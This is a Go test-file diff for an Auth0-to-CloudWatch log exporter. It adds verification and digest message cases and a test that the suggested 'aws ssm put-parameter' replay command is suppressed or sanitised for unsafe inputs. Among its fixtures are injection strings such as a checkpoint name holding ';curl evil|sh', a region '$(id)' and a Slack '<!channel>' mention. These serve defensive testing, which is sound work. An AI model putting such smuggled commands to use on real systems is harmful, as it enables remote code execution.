@@ -24,7 +24,7 @@ var update = flag.Bool("update", false, "write the golden files anew")
 
 var (
 	now  = time.Date(2026, 11, 23, 3, 5, 12, 0, time.UTC)
-	here = Function{Region: "eu-central-1", LogGroup: "/aws/lambda/export", LogStream: "2026/11/23/[$LATEST]0a1b2c3d"}
+	here = Function{Region: "eu-central-1", LogGroup: "/aws/lambda/export", LogStream: "2026/11/23/[$LATEST]0a1b2c3d", Checkpoint: "/auth0-logs-to-cloudwatch/acme/CHECKPOINT"}
 )
 
 // eventID is a log_id as Auth0 makes them, indexed at t.
@@ -57,6 +57,27 @@ func failed() export.Report {
 	r.Fetched, r.Filtered, r.Exported, r.Batches, r.Bytes = 0, 0, 0, 0, 0
 	r.To = ""
 	r.Notice.Since, r.Notice.Failures = r.Started, 1
+	return r
+}
+
+// incomplete is the report of a verification that found a lot.
+func incomplete(fill string) export.Report {
+	r := exported(export.NoticeVerify)
+	r.Action = export.VerifyAction
+	v := &export.Verification{
+		Stretch: tenantlog.Stretch{After: tenantlog.At(now.Add(-26 * time.Hour)), To: eventID(now.Add(-2 * time.Hour))},
+		Target:  export.Target{Group: "auth0-logs", Stream: "acme"}, State: export.VerifyDone,
+		Fetched: 12_400, Filtered: 55, Expected: 12_345, Stored: 12_335, Missing: 8, Double: 1, Elsewhere: 2,
+		Kept: now.Add(-25 * time.Hour), Fill: fill,
+	}
+	for i := range 8 {
+		at := now.Add(-time.Duration(10+i) * time.Hour)
+		v.Times = append(v.Times, export.Tally{Name: at.Format("2006-01-02T15"), Missing: 1})
+		v.FirstMissing = append(v.FirstMissing, eventID(at))
+	}
+	v.Types = []export.Tally{{Name: "s", Missing: 5, Double: 1}, {Name: "gd_auth_succeed", Missing: 3}}
+	v.FirstDouble = []tenantlog.ID{eventID(now.Add(-9 * time.Hour))}
+	r.Verify = v
 	return r
 }
 
@@ -126,6 +147,23 @@ func TestMessage(t *testing.T) {
 		{"digest_while_failing", func() export.Report {
 			r := failed()
 			r.Notice = &export.Notice{Kind: export.NoticeDigest, Digest: export.Totals{Since: now.Add(-24 * time.Hour), Runs: 288, Failed: 288}}
+			return r
+		}},
+		{"digest_verified", func() export.Report {
+			r := exported(export.NoticeDigest)
+			r.Notice.Verified = &export.Verified{After: tenantlog.At(now.Add(-26 * time.Hour)), To: tenantlog.At(now.Add(-2 * time.Hour)), Expected: 12_345}
+			return r
+		}},
+		{"digest_verified_incomplete", func() export.Report {
+			r := exported(export.NoticeDigest)
+			r.Notice.Verified = &export.Verified{After: tenantlog.At(now.Add(-26 * time.Hour)), To: eventID(now), Expected: 12_345, Missing: 3, Double: 1}
+			return r
+		}},
+		{"verify", func() export.Report { return incomplete("") }},
+		{"verify_filling", func() export.Report { return incomplete("a replay of the missing is open") }},
+		{"replay_failure", func() export.Report {
+			r := failed()
+			r.Action, r.Replay = export.ReplayAction, &export.Replay{}
 			return r
 		}},
 		{"success", func() export.Report { return exported(export.NoticeSuccess) }},
@@ -200,7 +238,11 @@ func TestMessageHostile(t *testing.T) {
 	for name, s := range hostile() {
 		t.Run(name, func(t *testing.T) {
 			for _, kind := range kinds() {
-				checkLimits(t, Message(filledWith(s, kind), Function{Region: s, LogGroup: s, LogStream: s}))
+				r := filledWith(s, kind)
+				if kind == export.NoticeVerify {
+					r.Verify = anyVerification(s)
+				}
+				checkLimits(t, Message(r, Function{Region: s, LogGroup: s, LogStream: s, Checkpoint: s}))
 			}
 		})
 	}
@@ -217,7 +259,58 @@ func filledWith(s string, kind export.NoticeKind) export.Report {
 		Late:  rescued, Slimmed: rescued, Wrapped: rescued,
 		UnknownTypes: texts, Warnings: texts,
 		Place:  export.Place{Region: "us-east-1", Group: s, Stream: s},
-		Notice: &export.Notice{Kind: kind, Since: now, Failures: 2},
+		Notice: &export.Notice{Kind: kind, Since: now, Failures: 2, Verified: &export.Verified{After: id, To: id, Expected: 9, Missing: 1}},
+	}
+}
+
+// anyVerification has s as its every text.
+func anyVerification(s string) *export.Verification {
+	id := tenantlog.ID(s)
+	t := export.Tally{Name: s, Missing: math.MaxInt, Double: math.MaxInt}
+	tallies := []export.Tally{t, t, t, t, t, t, t, t, t}
+	ids := []tenantlog.ID{id, id, id, id, id, id}
+	return &export.Verification{
+		Stretch: tenantlog.Stretch{After: id, To: id}, Target: export.Target{Group: s, Stream: s}, Expected: math.MaxInt,
+		Missing: math.MaxInt, Double: math.MaxInt, Elsewhere: math.MaxInt, Times: tallies, Types: tallies,
+		FirstMissing: ids, FirstDouble: ids, Fill: s, Kept: now,
+	}
+}
+
+// TestReplayCommand: it is made where the failed run's beginning is known, and
+// of nothing that a shell or Slack could take for more than letters.
+func TestReplayCommand(t *testing.T) {
+	const name = "/auth0-logs-to-cloudwatch/acme/CHECKPOINT"
+	good := func(r *export.Report, f *Function) {}
+	tests := map[string]struct {
+		change func(*export.Report, *Function)
+		want   string
+	}{
+		"a failed export":      {good, "```aws ssm put-parameter --region eu-central-1 --overwrite --name " + name + " --value "},
+		"no region":            {func(_ *export.Report, f *Function) { f.Region = "" }, "```aws ssm put-parameter --overwrite --name " + name},
+		"beginning not known":  {func(r *export.Report, _ *Function) { r.From = "" }, ""},
+		"no parameter's name":  {func(_ *export.Report, f *Function) { f.Checkpoint = "" }, ""},
+		"hostile tenant":       {func(_ *export.Report, f *Function) { f.Checkpoint = "/root/a;curl evil|sh/CHECKPOINT" }, ""},
+		"hostile id":           {func(r *export.Report, _ *Function) { r.From = "1```<!channel>" }, ""},
+		"line break":           {func(r *export.Report, _ *Function) { r.From = "1\n2" }, ""},
+		"hostile region":       {func(_ *export.Report, f *Function) { f.Region = "$(id)" }, "```aws ssm put-parameter --overwrite --name " + name},
+		"no failure":           {func(r *export.Report, _ *Function) { r.Notice.Kind = export.NoticeRecovery }, ""},
+		"failed replay":        {func(r *export.Report, _ *Function) { r.Action = export.ReplayAction }, ""},
+		"failed verification":  {func(r *export.Report, _ *Function) { r.Action = export.VerifyAction }, ""},
+		"a name without bound": {func(_ *export.Report, f *Function) { f.Checkpoint = strings.Repeat("a", 3000) }, ""},
+	}
+	for title, test := range tests {
+		t.Run(title, func(t *testing.T) {
+			r, f := failed(), here
+			test.change(&r, &f)
+			got := goOver(&r, f)
+			if !strings.Contains(got, test.want) || (got == "") != (test.want == "") {
+				t.Errorf("got %q, want it to hold %q", got, test.want)
+			}
+			if got != "" && !strings.HasSuffix(got, " --value "+string(r.From)+"```") {
+				t.Errorf("got %q, want it to end in the id where the run began", got)
+			}
+			checkLimits(t, Message(r, f))
+		})
 	}
 }
 
@@ -230,7 +323,7 @@ func TestMessageKeepsTheLimits(t *testing.T) {
 
 func kinds() []export.NoticeKind {
 	return []export.NoticeKind{
-		export.NoticeFailure, export.NoticeRecovery, export.NoticeAttention, export.NoticeDigest, export.NoticeSuccess,
+		export.NoticeFailure, export.NoticeRecovery, export.NoticeAttention, export.NoticeDigest, export.NoticeSuccess, export.NoticeVerify,
 	}
 }
 
@@ -279,6 +372,12 @@ func anyReport(t *rapid.T) export.Report {
 			},
 		},
 	}
+	if rapid.Bool().Draw(t, "of an export") {
+		r.Action = export.ExportAction
+	}
+	if rapid.Bool().Draw(t, "with verification") {
+		r.Verify = anyVerification(text.Draw(t, "verification"))
+	}
 	if rapid.Bool().Draw(t, "with error") {
 		r.Error = &export.Error{Kind: export.Kind(text.Draw(t, "error kind")), Text: text.Draw(t, "error"), Fix: text.Draw(t, "fix")}
 	}
@@ -292,7 +391,7 @@ func anyReport(t *rapid.T) export.Report {
 }
 
 func anyFunction(t *rapid.T) Function {
-	return Function{Region: anyRegion(t), LogGroup: anyText().Draw(t, "log group"), LogStream: anyText().Draw(t, "log stream")}
+	return Function{Region: anyRegion(t), LogGroup: anyText().Draw(t, "log group"), LogStream: anyText().Draw(t, "log stream"), Checkpoint: anyText().Draw(t, "checkpoint")}
 }
 
 func anyRegion(t *rapid.T) string {
